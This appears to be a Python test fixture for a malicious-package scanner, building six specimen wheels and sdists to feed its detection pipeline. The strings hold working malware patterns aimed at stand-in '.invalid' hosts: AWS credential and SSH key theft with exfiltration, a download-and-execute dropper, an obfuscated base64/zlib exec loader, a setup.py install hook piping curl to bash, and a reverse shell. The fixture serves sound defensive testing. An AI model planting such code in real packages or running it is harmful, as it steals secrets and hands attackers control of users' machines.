"""Six packages that do harm only by look: hosts do not exist, nothing here is ever run."""

from __future__ import annotations

import base64
import zlib
from collections.abc import Mapping
from dataclasses import dataclass, replace

from antivenom.intake.files import from_bytes
from antivenom.judge import load_knowledge
from antivenom.model.context import NOTHING
from antivenom.model.review import Review
from antivenom.pipeline import judge, observe
from tests.builders.archives import sdist, wheel

THIEF = """\
import os
import requests

path = os.path.expanduser("~/.aws/credentials")
if os.path.exists(path):
    with open(path) as handle:
        text = handle.read()
    requests.post("https://collect.evil.invalid/in", data=text)
"""

DROPPER = """\
import os
import subprocess
import urllib.request

target = os.path.join("/tmp", "update-agent.bin")
body = urllib.request.urlopen("https://files.evil.invalid/agent").read()
with open(target, "wb") as handle:
    handle.write(body)
os.chmod(target, 0o755)
subprocess.Popen([target])
"""

_HIDDEN = base64.b64encode(zlib.compress(THIEF.encode())).decode()
HIDER = f"""\
import base64
import zlib

blob = "{_HIDDEN}"
code = zlib.decompress(base64.b64decode(blob)).decode()
exec(code)
"""

HOOK = """\
from setuptools import setup
from setuptools.command.install import install
import os


class Custom(install):
    def run(self):
        install.run(self)
        os.system("curl -s https://files.evil.invalid/setup.sh | bash")


setup(name="demo", version="1.0", packages=["demo"], cmdclass={"install": Custom})
"""

SHELL = """\
import os
import pty
import socket

link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
link.connect(("c2.evil.invalid", 4444))
for number in (0, 1, 2):
    os.dup2(link.fileno(), number)
pty.spawn("/bin/sh")
"""

ENTRY = """\
from demo.collect import gather
from demo.deliver import send

send(gather())
"""
COLLECT = """\
import os


def gather():
    found = {}
    for name in ("id_rsa", "id_ed25519"):
        place = os.path.expanduser("~/.ssh/" + name)
        if os.path.isfile(place):
            with open(place) as handle:
                found[name] = handle.read()
    return found
"""
DELIVER = """\
import json
import urllib.request


def send(found):
    body = json.dumps(found).encode()
    request = urllib.request.Request("https://collect.evil.invalid/keys", data=body)
    urllib.request.urlopen(request)
"""
PLAIN_SETUP = 'from setuptools import setup\nsetup(name="demo", version="1.0", packages=["demo"])\n'


@dataclass(frozen=True, slots=True, kw_only=True)
class Specimen:
    """A package before it is packed; `files` are those of its code."""

    files: Mapping[str, str]
    name: str = "demo"
    version: str = "1.0"
    requires: tuple[str, ...] = ()
    backwards: bool = False

    def changed(self, **files: str) -> Specimen:
        return replace(self, files={**self.files, **files})

    def with_files(self, files: Mapping[str, str]) -> Specimen:
        return replace(self, files=files)

    def pack(self, form: str) -> tuple[str, bytes]:
        """Return (file name, bytes) of a wheel or an sdist."""
        pairs = list(self.files.items())
        files = dict(reversed(pairs) if self.backwards else pairs)
        if form == "wheel":
            plain = {k: v for k, v in files.items() if k != "setup.py"}
            extra = "".join(f"Requires-Dist: {r}\n" for r in self.requires)
            name = f"{self.name}-{self.version}-py3-none-any.whl"
            return name, wheel(plain, name=self.name, version=self.version, metadata=extra)
        files = {"setup.py": PLAIN_SETUP.replace("demo", self.name), **files}
        if self.requires:
            files["requirements.txt"] = "\n".join(self.requires) + "\n"
        return (
            f"{self.name}-{self.version}.tar.gz",
            sdist(files, name=self.name, version=self.version),
        )

    def review(self, form: str) -> Review:
        """Run the pipeline."""
        name, data = self.pack(form)
        return judge(observe(from_bytes(data, name)), NOTHING, load_knowledge())


SPECIMENS = {
    "thief": Specimen(files={"demo/__init__.py": THIEF}),
    "dropper": Specimen(files={"demo/__init__.py": DROPPER}),
    "hider": Specimen(files={"demo/__init__.py": HIDER}),
    "hook": Specimen(files={"setup.py": HOOK, "demo/__init__.py": "VERSION = 1\n"}),
    "shell": Specimen(files={"demo/__init__.py": SHELL}),
    "parts": Specimen(
        files={
            "demo/__init__.py": ENTRY,
            "demo/collect.py": COLLECT,
            "demo/deliver.py": DELIVER,
        }
    ),
}
FORMS = [(name, form) for name in SPECIMENS for form in ("wheel", "sdist")
         if (name, form) != ("hook", "wheel")]  # fmt: skip

__all__ = ["FORMS", "SPECIMENS", "Specimen"]
